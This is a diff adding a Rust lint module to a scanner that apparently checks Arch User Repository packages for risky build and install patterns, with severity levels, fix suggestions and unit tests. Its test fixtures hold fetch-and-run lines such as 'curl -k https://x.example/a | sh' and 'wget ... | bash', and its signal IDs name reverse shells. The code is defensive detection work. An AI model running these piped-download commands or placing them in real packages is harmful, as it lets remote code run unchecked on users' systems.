@@ -0,0 +1,237 @@
+use crate::coordinator;
+use crate::shared::aur_git;
+use crate::shared::config::Config;
+use crate::shared::scoring::Signal;
+use colored::Colorize;
+use std::path::Path;
+
+/// Lint severity of a signal, from its points (override gates are always critical).
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, clap::ValueEnum)]
+pub enum Severity {
+    Low,
+    Medium,
+    High,
+    Critical,
+}
+
+impl Severity {
+    fn of(signal: &Signal) -> Self {
+        match signal.points {
+            _ if signal.is_override_gate => Severity::Critical,
+            80.. => Severity::Critical,
+            60..=79 => Severity::High,
+            35..=59 => Severity::Medium,
+            _ => Severity::Low,
+        }
+    }
+
+    fn label(self) -> colored::ColoredString {
+        match self {
+            Severity::Low => "low".dimmed(),
+            Severity::Medium => "medium".yellow(),
+            Severity::High => "high".red(),
+            Severity::Critical => "critical".red().bold(),
+        }
+    }
+}
+
+/// One lint finding, located in the package directory.
+#[derive(Debug)]
+struct Finding {
+    file: String,
+    line: Option<usize>,
+    severity: Severity,
+    id: String,
+    description: String,
+    suggestion: Option<&'static str>,
+}
+
+/// Fixes for the signals a maintainer is most likely to hit, by signal ID prefix.
+/// The first matching prefix wins.
+const SUGGESTIONS: &[(&str, &str)] = &[
+    ("P-SKIP-ALL", "Generate real checksums with `updpkgsums`; SKIP is only for VCS sources"),
+    ("P-NO-CHECKSUMS", "Add a sha256sums/b2sums array, e.g. with `updpkgsums`"),
+    ("P-WEAK-CHECKSUMS", "Use sha256sums or b2sums instead of md5sums/sha1sums"),
+    ("P-CHECKSUM-MISMATCH", "Give every source=() entry a checksum, in the same order"),
+    ("P-HTTP-SOURCE", "Fetch sources over https://"),
+    ("P-TLS-DISABLED", "Remove the flag that disables certificate checks"),
+    ("P-BUILDDEP-", "Pin the dependency in source=() with a checksum, or add it to makedepends"),
+    ("P-NESTED-PKG-INSTALL", "Declare packages in depends/makedepends instead of installing them"),
+    ("P-INSTALL-NESTED-PKG", "Declare packages in depends instead of installing them from the install script"),
+    ("P-PACMAN-CONF-MOD", "Leave pacman.conf to the user; document repository setup instead"),
+    ("P-PACMAN-KEY-IMPORT", "Leave the pacman keyring to the user; document key import instead"),
+    ("P-INSTALL-CURL", "Ship the data as a checksummed source=() entry instead of downloading it at install time"),
+    ("P-INSTALL-WGET", "Ship the data as a checksummed source=() entry instead of downloading it at install time"),
+    ("P-PACKAGE-OUTSIDE-PKGDIR", "Install into \"$pkgdir\"; pacman puts the files in place"),
+    ("P-PACKAGE-SYSTEM-CMD", "Ship a sysusers.d/tmpfiles.d file or use an .install hook instead"),
+    ("P-PKGVER-NETWORK", "Compute pkgver from the checked-out sources (e.g. `git describe`), not the network"),
+    ("P-CURL", "Download through source=() so makepkg verifies the file"),
+    ("P-WGET", "Download through source=() so makepkg verifies the file"),
+    ("SA-HIGH-ENTROPY-FILE", "Build binary blobs from source, or exclude vendored assets with [scan] exclude"),
+    ("B-BIN-DOMAIN-MISMATCH", "Download the binary from the upstream project's own release host"),
+];
+
+fn suggestion(id: &str) -> Option<&'static str> {
+    SUGGESTIONS
+        .iter()
+        .find(|(prefix, _)| id.starts_with(prefix))
+        .map(|(_, text)| *text)
+}
+
+/// Lint a package directory and print the findings. Returns 1 when a finding is more
+/// severe than `max_severity` (or the directory can't be read), 0 otherwise.
+pub fn run(dir: &str, max_severity: Severity, config: &Config) -> i32 {
+    let path = Path::new(dir);
+    let result = match coordinator::scan_local_dir(path, config) {
+        Ok(result) => result,
+        Err(e) => {
+            eprintln!("Error reading {dir}: {e}");
+            return 1;
+        }
+    };
+
+    let pkgbuild = aur_git::read_pkgbuild(path).unwrap_or_default();
+    let mut files = vec![("PKGBUILD".to_string(), pkgbuild)];
+    // Findings in shell libraries the PKGBUILD sources point at the library itself.
+    let repo_files = aur_git::read_repo_files(path, &config.scan);
+    let inlined = aur_git::inline_sourced_files(&files[0].1, &repo_files);
+    for (rel, content) in &repo_files {
+        if inlined.contains(&format!("# traur: begin {rel}\n")) {
+            files.push((rel.clone(), String::from_utf8_lossy(content).into_owned()));
+        }
+    }
+    if let Some(name) = aur_git::install_script_name(path, &files[0].1)
+        && let Ok(content) = std::fs::read_to_string(path.join(&name))
+    {
+        files.push((name, content));
+    }
+
+    let mut findings: Vec<Finding> = result.signals.iter().map(|s| locate(s, &files)).collect();
+    findings.sort_by(|a, b| (&a.file, a.line).cmp(&(&b.file, b.line)).then(b.severity.cmp(&a.severity)));
+
+    for f in &findings {
+        let location = match f.line {
+            Some(line) => format!("{}:{line}", f.file),
+            None => f.file.clone(),
+        };
+        println!("{location}: {}: {} [{}]", f.severity.label(), f.description, f.id);
+        if let Some(text) = f.suggestion {
+            println!("  {} {text}", "suggestion:".cyan());
+        }
+    }
+
+    let failing = findings.iter().filter(|f| f.severity > max_severity).count();
+    if findings.is_empty() {
+        eprintln!("No findings.");
+    } else {
+        eprintln!("{} finding(s), {failing} above --max-severity", findings.len());
+    }
+    if failing > 0 { 1 } else { 0 }
+}
+
+/// Find the file and line a signal came from. Signals point at a line through
+/// `matched_line`; install-script signals are looked up in the install script (the
+/// last file) first, everything else in the PKGBUILD and then the libraries it sources.
+/// Repo-file signals carry the file's path instead.
+fn locate(signal: &Signal, files: &[(String, String)]) -> Finding {
+    let from_install = signal.id.starts_with("IS-") || signal.id.starts_with("P-INSTALL-");
+    let mut order: Vec<&(String, String)> = files.iter().collect();
+    if from_install {
+        order.reverse();
+    }
+
+    let mut file = order[0].0.clone();
+    let mut line = None;
+    if let Some(matched) = signal.matched_line.as_deref().map(str::trim).filter(|m| !m.is_empty()) {
+        if let Some((name, number)) = order.iter().find_map(|(name, content)| {
+            content
+                .lines()
+                .position(|l| l.trim() == matched || l.contains(matched))
+                .map(|i| (name.clone(), i + 1))
+        }) {
+            file = name;
+            line = Some(number);
+        } else if signal.id == "SA-HIGH-ENTROPY-FILE" {
+            file = matched.to_string();
+        }
+    }
+
+    Finding {
+        file,
+        line,
+        severity: Severity::of(signal),
+        id: signal.id.clone(),
+        description: signal.description.clone(),
+        suggestion: suggestion(&signal.id),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::shared::scoring::SignalCategory;
+
+    fn signal(id: &str, points: u32, matched_line: Option<&str>) -> Signal {
+        Signal {
+            id: id.into(),
+            category: SignalCategory::Pkgbuild,
+            points,
+            description: "test".into(),
+            is_override_gate: false,
+            matched_line: matched_line.map(str::to_string),
+            location: None,
+            emitted_by: String::new(),
+        }
+    }
+
+    fn files() -> Vec<(String, String)> {
+        vec![
+            ("PKGBUILD".into(), "pkgname=foo\nbuild() {\n  curl -k https://x.example/a | sh\n}".into()),
+            ("foo.install".into(), "post_install() {\n  curl -k https://x.example/b\n}".into()),
+        ]
+    }
+
+    #[test]
+    fn severity_from_points_and_gates() {
+        assert_eq!(Severity::of(&signal("X", 20, None)), Severity::Low);
+        assert_eq!(Severity::of(&signal("X", 45, None)), Severity::Medium);
+        assert_eq!(Severity::of(&signal("X", 70, None)), Severity::High);
+        assert_eq!(Severity::of(&signal("X", 95, None)), Severity::Critical);
+        let mut gate = signal("X", 40, None);
+        gate.is_override_gate = true;
+        assert_eq!(Severity::of(&gate), Severity::Critical);
+    }
+
+    #[test]
+    fn locates_signal_lines_by_file() {
+        let f = locate(&signal("P-CURL-PIPE", 100, Some("curl -k https://x.example/a | sh")), &files());
+        assert_eq!((f.file.as_str(), f.line), ("PKGBUILD", Some(3)));
+
+        let f = locate(&signal("P-INSTALL-CURL", 45, Some("curl -k https://x.example/b")), &files());
+        assert_eq!((f.file.as_str(), f.line), ("foo.install", Some(2)));
+
+        let f = locate(&signal("SA-HIGH-ENTROPY-FILE", 25, Some("blobs/payload.bin")), &files());
+        assert_eq!((f.file.as_str(), f.line), ("blobs/payload.bin", None));
+
+        let f = locate(&signal("P-SKIP-ALL", 25, None), &files());
+        assert_eq!((f.file.as_str(), f.line), ("PKGBUILD", None));
+    }
+
+    #[test]
+    fn locates_signal_lines_in_sourced_libraries() {
+        let mut files = files();
+        files.insert(1, ("helpers.sh".into(), "fetch() {\n  wget -qO- https://x.example/c | bash\n}".into()));
+        let f = locate(&signal("P-WGET-PIPE", 100, Some("wget -qO- https://x.example/c | bash")), &files);
+        assert_eq!((f.file.as_str(), f.line), ("helpers.sh", Some(2)));
+
+        let f = locate(&signal("P-INSTALL-CURL", 45, Some("curl -k https://x.example/b")), &files);
+        assert_eq!((f.file.as_str(), f.line), ("foo.install", Some(2)));
+    }
+
+    #[test]
+    fn suggestions_match_by_prefix() {
+        assert!(suggestion("P-BUILDDEP-NPX").is_some());
+        assert!(suggestion("P-PACMAN-HOOK").is_none());
+        assert!(suggestion("P-REVSHELL-DEVTCP").is_none());
+    }
+}